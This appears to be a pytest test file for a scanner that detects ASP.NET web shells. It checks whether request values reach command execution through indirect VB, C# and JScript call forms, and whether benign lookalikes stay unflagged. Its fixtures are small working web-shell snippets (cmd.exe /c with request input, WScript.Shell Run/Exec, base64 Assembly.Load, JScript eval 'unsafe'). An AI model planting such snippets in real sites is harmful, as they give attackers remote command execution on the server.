"""Ways of writing a call that hide the sink's name from where the client's value goes in:
VB's `With` block, whose `.Arguments = ...` belongs to the object the block names (and
JScript's `with (Request)`, whose `Form("c")` is the request's), VB's
`CallByName(obj, "Arguments", CallType.Let, x)`, the late-binding helper VB compiles such calls
into (`NewLateBinding.LateCall`/`LateGet`, called by hand from C#), a store like
`obj.Arguments = x`, and a delegate bound to the sink method itself (C# `Func<...> run =
Process.Start`, a delegate's constructor or cast over it, VB `AddressOf`), called later as
`run(x)` or `run.Invoke(x)`, or bound to a method of the page that runs its argument
(`Action<string> run = Go; run(x)`, VB `AddressOf Go`). Fixed values through the same forms, and
a delegate over a harmless method, are not reported."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page

PROCESS = "EXH-WS-CODE-PROCESS"
ASSEMBLY = "EXH-WS-CODE-ASSEMBLY"
EVAL = "EXH-WS-CODE-EVAL"

SHELLS = [
    (
        "with-startinfo.aspx",
        vb_page(
            "Dim p As New System.Diagnostics.Process()\n"
            "With p.StartInfo\n"
            '.FileName = "cmd.exe"\n'
            '.Arguments = "/c " & Request("c")\n'
            ".UseShellExecute = False\n"
            "End With\n"
            "p.Start()"
        ),
        PROCESS,
        ["request parameter 'c'", "runs it as a command"],
    ),
    (
        "with-nested.aspx",
        vb_page(
            "Dim p As New System.Diagnostics.Process()\n"
            "With p\n"
            "With .StartInfo\n"
            '.FileName = "cmd.exe"\n'
            '.Arguments = "/c " & Request.Form("c")\n'
            "End With\n"
            ".Start()\n"
            "End With"
        ),
        PROCESS,
        ["form field 'c'", "runs it as a command"],
    ),
    (
        "with-psi.aspx",
        vb_page(
            "Dim psi As New System.Diagnostics.ProcessStartInfo()\n"
            "With psi\n"
            '.FileName = "cmd.exe"\n'
            '.Arguments = "/c " & Request.QueryString("q")\n'
            "End With\n"
            "System.Diagnostics.Process.Start(psi)"
        ),
        PROCESS,
        ["query parameter 'q'", "Process.Start"],
    ),
    (
        "with-request.aspx",
        vb_page('With Request\nShell("cmd.exe /c " & .Form("c"))\nEnd With'),
        PROCESS,
        ["form field 'c'", "(Shell)"],
    ),
    (
        "group.aspx",
        cs_page(
            "Func<string, string, System.Diagnostics.Process> run = System.Diagnostics.Process.Start;\n"
            'run("cmd.exe", "/c " + Request["c"]);'
        ),
        PROCESS,
        ["request parameter 'c'", "called through a delegate bound to System.Diagnostics.Process.Start"],
    ),
    (
        "group-new.aspx",
        cs_page(
            "var load = new Func<byte[], System.Reflection.Assembly>(System.Reflection.Assembly.Load);\n"
            'load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("U");'
        ),
        ASSEMBLY,
        ["form field 'd'", "base64-decodes it", "loads it as an assembly", "delegate bound to"],
    ),
    (
        "group-cast.aspx",
        cs_page(
            "var load = (Func<byte[], System.Reflection.Assembly>)System.Reflection.Assembly.Load;\n"
            'load.Invoke(Request.BinaryRead(Request.ContentLength)).CreateInstance("U");'
        ),
        ASSEMBLY,
        ["the request body", "delegate bound to System.Reflection.Assembly.Load"],
    ),
    (
        "addressof.aspx",
        vb_page(
            "Dim run As Func(Of String, String, System.Diagnostics.Process) = "
            "AddressOf System.Diagnostics.Process.Start\n"
            'run("cmd.exe", Request("c"))'
        ),
        PROCESS,
        ["request parameter 'c'", "delegate bound to System.Diagnostics.Process.Start"],
    ),
    (
        "addressof-new.aspx",
        vb_page(
            "Dim run = New Func(Of String, System.Diagnostics.Process)(AddressOf System.Diagnostics.Process.Start)\n"
            'run.Invoke(Request.Form("c"))'
        ),
        PROCESS,
        ["form field 'c'", "delegate bound to"],
    ),
]


# VB's CallByName setting a property (`CallType.Let`) is a store into it, as `p.StartInfo.Arguments = x`.
SHELLS.append(
    (
        "callbyname-let.aspx",
        vb_page(
            "Dim p = New System.Diagnostics.Process()\n"
            'CallByName(p.StartInfo, "FileName", CallType.Let, "cmd.exe")\n'
            'CallByName(p.StartInfo, "Arguments", CallType.Let, "/c " & Request("c"))\n'
            'CallByName(p, "Start", CallType.Method)'
        ),
        PROCESS,
        ["request parameter 'c'", "runs it as a command"],
    )
)


# VB's late-binding helper called by hand from C#: `CallByName` in another spelling.
SHELLS += [
    (
        "latecall.aspx",
        cs_page(
            'object sh = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell", "");\n'
            "Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateCall("
            'sh, null, "Run", new object[] { "cmd /c " + Request["c"] }, null, null, null, true);'
        ),
        PROCESS,
        ["request parameter 'c'", "called late-bound as wscript.shell.Run"],
    ),
    (
        "lateget.aspx",
        cs_page(
            'object sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));\n'
            "var x = Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateGet("
            'sh, null, "Ex" + "ec", new object[] { Request.Form["c"] }, null, null, null);'
        ),
        PROCESS,
        ["form field 'c'", "wscript.shell.Exec"],
    ),
]


# A delegate bound to a method of the page: calling it is calling the method.
GO_CS = 'void Go(string c) { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }'
GO_VB = 'Sub Go(c As String)\n  System.Diagnostics.Process.Start("cmd.exe", "/c " & c)\nEnd Sub'
SHELLS += [
    (
        "own-group.aspx",
        cs_page('Action<string> run = Go;\nrun(Request["c"]);', members=GO_CS),
        PROCESS,
        ["request parameter 'c'"],
    ),
    (
        "own-group-new.aspx",
        cs_page('var run = new Action<string>(Go);\nrun.Invoke(Request.Form["c"]);', members=GO_CS),
        PROCESS,
        ["form field 'c'"],
    ),
    (
        "own-group-returns.aspx",
        cs_page(
            'Func<string> read = Read;\nSystem.Diagnostics.Process.Start("cmd.exe", "/c " + read());',
            members='string Read() { return Request.Form["c"]; }',
        ),
        PROCESS,
        ["form field 'c'"],
    ),
    (
        "own-addressof.aspx",
        vb_page('Dim run As Action(Of String) = AddressOf Go\nrun(Request("c"))', members=GO_VB),
        PROCESS,
        ["request parameter 'c'"],
    ),
]


def _jscript(body: str) -> str:
    return (
        '<%@ Page Language="JScript" %>\n<script runat="server">\nfunction Page_Load(sender, e) {\n'
        + body
        + "\n}\n</script>"
    )


# JScript's `with (Request) { ... }`: `Form("c")` inside is the request's form field.
SHELLS += [
    (
        "js-with-request.aspx",
        _jscript('with (Request) { Response.Write(eval(Form("c"), "unsafe")); }'),
        EVAL,
        ["form field 'c'", '"unsafe"'],
    ),
    (
        "js-with-item.aspx",
        _jscript('with (this.Request) eval(Item["c"], "unsafe");'),
        EVAL,
        ["request parameter 'c'"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_shell_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


BENIGN = [
    (
        "latecall-dictionary.aspx",
        cs_page(
            'object d = Microsoft.VisualBasic.Interaction.CreateObject("Scripting.Dictionary", "");\n'
            "Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateCall("
            'd, null, "Add", new object[] { "k", Request["v"] }, null, null, null, true);'
        ),
    ),
    (
        "js-with-echo.aspx",
        _jscript('with (Request) { Response.Write(Server.HtmlEncode(Form("name"))); }'),
    ),
    (
        "with-fixed.aspx",
        vb_page(
            'Dim psi As New System.Diagnostics.ProcessStartInfo("ping.exe")\n'
            "With psi\n"
            '.Arguments = "-n 1 127.0.0.1"\n'
            ".UseShellExecute = False\n"
            "End With\n"
            "System.Diagnostics.Process.Start(psi)"
        ),
    ),
    (
        "with-label.aspx",
        vb_page('With lblName\n.Text = Server.HtmlEncode(Request.Form("name"))\n.Visible = True\nEnd With'),
    ),
    (
        "group-fixed.aspx",
        cs_page(
            "Func<string, string, System.Diagnostics.Process> run = System.Diagnostics.Process.Start;\n"
            'run("notepad.exe", "readme.txt");'
        ),
    ),
    (
        "group-harmless.aspx",
        cs_page(
            "Func<string, string> name = System.IO.Path.GetFileName;\n"
            'Response.Write(Server.HtmlEncode(name(Request["f"])));'
        ),
    ),
]


BENIGN.append(("own-group-fixed.aspx", cs_page('Action<string> run = Go;\nrun("ipconfig");', members=GO_CS)))
BENIGN.append(
    (
        "callbyname-fixed.aspx",
        vb_page(
            "Dim p = New System.Diagnostics.Process()\n"
            'CallByName(p.StartInfo, "FileName", CallType.Let, "ping.exe")\n'
            'CallByName(p.StartInfo, "Arguments", CallType.Let, "-n 1 127.0.0.1")\n'
            'CallByName(p, "Start", CallType.Method)'
        ),
    )
)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(name, code)


def test_invoking_a_delegate_over_the_pages_method_is_no_reflection() -> None:
    # `run.Invoke(x)` calls the page's own method through a delegate the page made: the command
    # is found, and no reflective call is reported for it.
    report = run(
        "own.aspx", cs_page('var run = new Action<string>(Go);\nrun.Invoke(Request.Form["c"]);', members=GO_CS)
    )
    rules = [c.rule_id for c in report.capabilities]
    assert PROCESS in rules
    assert "EXH-WS-CODE-REFLECTION" not in rules
